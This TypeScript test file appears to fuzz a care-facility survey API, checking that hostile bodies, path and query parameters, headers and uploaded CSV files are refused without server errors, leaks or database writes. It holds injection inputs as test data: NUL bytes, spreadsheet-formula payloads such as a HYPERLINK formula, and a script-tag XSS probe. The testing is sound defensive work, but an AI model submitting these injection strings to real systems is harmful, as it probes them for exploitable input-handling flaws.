        const survey = (await openSurveys(t, MAPLE, 'Admission')).at(-1);
        if (!survey) throw new Error('no open Admission survey left');
        const questions = await questionsOfSurvey(t.db, {
          facility_id: MAPLE,
          survey_type: 'Admission',
          survey_set_id: null,
        });
        const path = answerPath(questions);
        const textIndex = path.findIndex(
          (entry) =>
            questions.find((question) => question.id === entry.questionId)?.type === 'Text',
        );
        expect(textIndex).toBeGreaterThanOrEqual(0);
        const validSubmission = () => ({
          survey_answer_list: answerRecords(survey.id, path),
          patient_id: survey.id,
          sf_user_id: who.body.sf_user_id,
          ack_data: [
            {
              id: fixtures.employee.code,
              name: fixtures.employee.name,
              position: fixtures.employee.position,
              department: fixtures.employee.department,
              comment: 'Kind.',
            },
          ],
        });
        const submit = (change: (body: ReturnType<typeof validSubmission>) => void) => {
          const body = validSubmission();
          change(body);
          return call(t, who, 'submitAnswers', {
            headers: { 'idempotency-key': `nul-${crypto.randomUUID()}` },
            body,
          });
        };

        const before = await dbState(t);
        const refused = [
          await t.app.inject({
            method: 'POST',
            url: `${API_BASE}/users/sf-login/`,
            payload: { username: 'staff\u0000@carevoice.test', password: 'carevoice-demo' },
          }),
          await call(t, who, 'unlistedResidents', {
            params: { facilityId: MAPLE, searchText: 'Abb\u0000ott' },
          }),
          await submit((body) => {
            const answer = body.survey_answer_list[textIndex];
            if (answer) answer.Answer__c = 'Very\u0000kind';
          }),
          await submit((body) => {
            const answer = body.survey_answer_list[0];
            if (answer) answer.Comment__c = '\u0000';
          }),
          await submit((body) => {
            const review = body.ack_data[0];
            if (review) review.comment = 'Kind\u0000';
          }),
        ];
        for (const response of refused) {
          expect(response.statusCode, response.body).toBe(400);
          expect(response.json<{ detail: string }>().detail).toBe(MESSAGES.badRequest);
        }
        expect(await dbState(t)).toEqual(before);
        // The same submission without the NUL is accepted: only the character was refused.
        const accepted = await submit(() => undefined);
        expect(accepted.statusCode, accepted.body).toBe(200);
      });
    });
  }

  describe.each(namesOfPart(part))('%s', (name) => {
    const bodySchema = bodySchemaOf(name);
    const { method } = ENDPOINTS[name];
    const params = paramsOf(name);
    const querySchema = (ENDPOINTS[name] as EndpointDef).query;
    const bodyRead = method !== 'GET' && bodySchema !== null;

    it(`hostile bodies: never a 5xx or a leak; ${
      bodyRead ? 'accepted only when the shared schema accepts them' : 'the body is not read'
    }; nothing written unless accepted`, async () => {
      const valid = requestFor(name, await signedIn());
      const bodies = readsCsv(name) ? csvText(payloadOf(valid)) : bodyText(valid.body ?? {});
      await fc.assert(
        fc.asyncProperty(bodies, fc.ipV4(), async (payload, ip) => {
          const accept = !bodyRead || schemaAccepts(bodySchema, payload, readsCsv(name));
          await attempt(
            name,
            (who) => {
              const request = requestFor(name, who);
              return t.app.inject({
                method,
                url: urlOf(name, request),
                remoteAddress: ip,
                headers: { ...who.headers, ...request.headers, 'content-type': bodyType(name) },
                payload,
              });
            },
            accept,
          );
        }),
        { seed: seedOf(`${name} body`), numRuns: bodyRead ? RUNS.body : RUNS.ignoredBody },
      );
    });

    if (params.length > 0) {
      it('hostile path parameters: never a 5xx or a leak; accepted only when every parameter parses; nothing written unless accepted', async () => {
        for (const param of params) expect(paramSchemaOf(name, param)).toBeDefined();
        await fc.assert(
          fc.asyncProperty(fc.constantFrom(...params), hostileSegment, async (param, segment) => {
            const decoded = decodedOrNull(segment);
            const accept =
              decoded !== null && paramSchemaOf(name, param)?.safeParse(decoded).success === true;
            await attempt(
              name,
              (who) => {
                const request = requestFor(name, who);
                return t.app.inject({
                  method,
                  url: urlOf(name, request, { [param]: segment }),
                  headers: {
                    ...who.headers,
                    ...request.headers,
                    ...(request.body === undefined ? {} : { 'content-type': bodyType(name) }),
                  },
                  ...(request.body === undefined ? {} : { payload: payloadOf(request) }),
                });
              },
              accept,
            );
          }),
          { seed: seedOf(`${name} path`), numRuns: RUNS.path },
        );
      });
    }

    if (querySchema) {
      const keys = Object.keys(querySchema.shape);
      it('hostile query parameters: never a 5xx or a leak; accepted only when the query parses; nothing written unless accepted', async () => {
        await fc.assert(
          fc.asyncProperty(fc.constantFrom(...keys), hostileSegment, async (key, segment) => {
            const decoded = decodedOrNull(segment);
            const valid = requestFor(name, await signedIn());
            const accept =
              decoded !== null &&
              querySchema.safeParse({ ...valid.query, [key]: decoded }).success === true;
            await attempt(
              name,
              (who) => {
                const request = requestFor(name, who);
                return t.app.inject({
                  method,
                  url: urlOf(name, request, {}, { [key]: segment }),
                  headers: { ...who.headers, ...request.headers },
                });
              },
              accept,
            );
          }),
          { seed: seedOf(`${name} query`), numRuns: RUNS.path },
        );
      });
    }

    it('hostile headers: never a 5xx or a leak; refused when a header must be; nothing written unless accepted', async () => {
      const valid = requestFor(name, await signedIn());
      const context: HeaderContext = {
        name,
        hasBody: valid.body !== undefined,
        csvBody: readsCsv(name),
        readsIdempotencyKey: valid.headers?.['idempotency-key'] !== undefined,
      };
      await fc.assert(
        fc.asyncProperty(headerChoices, async (choices) => {
          const accept = !choices.some((choice) => choice.refuses(context));
          await attempt(
            name,
            (who) => {
              const request = requestFor(name, who);
              const headers: Record<string, string> = {
                cookie: LIVE_SESSION,
                ...request.headers,
                ...(request.body === undefined ? {} : { 'content-type': bodyType(name) }),
              };
              for (const choice of choices) Object.assign(headers, choice.headers);
              for (const [header, value] of Object.entries(headers)) {
                headers[header] = value.replace(LIVE_SESSION, who.headers.cookie);
              }
              return t.app.inject({
                method,
                url: urlOf(name, request),
                headers,
                ...(request.body === undefined ? {} : { payload: payloadOf(request) }),
              });
            },
            accept,
          );
        }),
        { seed: seedOf(`${name} headers`), numRuns: RUNS.headers },
      );
    });
  });
}

/**
 * Hostile CSV files made from a valid one: cells replaced by injections, formulas, markup,
 * separators, quotes, NUL and very long values; rows cut, repeated or shuffled; a byte-order
 * mark; another separator; a header only; nothing at all.
 */
function csvText(valid: string): fc.Arbitrary<string> {
  const lines = valid
    .replace(/^\uFEFF/, '')
    .split(/\r?\n/)
    .filter((line) => line !== '');
  const [header = '', ...rows] = lines;
  const hostileCell = fc.oneof(
    fc.constantFrom(...INJECTIONS),
    fc.constantFrom(
      '=HYPERLINK("http://x")',
      '+1',
      '-1',
      '@SUM(A1)',
      '"',
      '""',
      ';',
      ',',
      '\u0000',
    ),
    fc.constantFrom('<script>alert(1)</script>', 'x'.repeat(5000), '2026-02-30', 'ñ𝄞é'),
    fc.string(),
  );
  const editedRow = fc
    .tuple(fc.constantFrom(...(rows.length > 0 ? rows : [header])), fc.nat(), hostileCell)
    .map(([row, index, cell]) => {
      const cells = row.split(',');
      cells[index % cells.length] = cell;
      return cells.join(',');
    });
  return fc.oneof(
    fc
      .array(editedRow, { minLength: 1, maxLength: 4 })
      .map((edited) => [header, ...rows, ...edited].join('\n')),
    fc.constant(`\uFEFF${[header, ...rows].join('\r\n')}`),
    fc.constant([header, ...rows].join('\n').replaceAll(',', ';')),
    fc.constant(header),
    fc.constant(''),
    fc.string(),
    fc.constantFrom(...rows.map((row) => [header, row, row].join('\n'))),
  );
}

function schemaAccepts(schema: z.ZodType, payload: string, csv = false): boolean {
  if (csv) return schema.safeParse(payload).success;
  try {
    return schema.safeParse(JSON.parse(payload)).success;
  } catch {
    return false;
  }
}
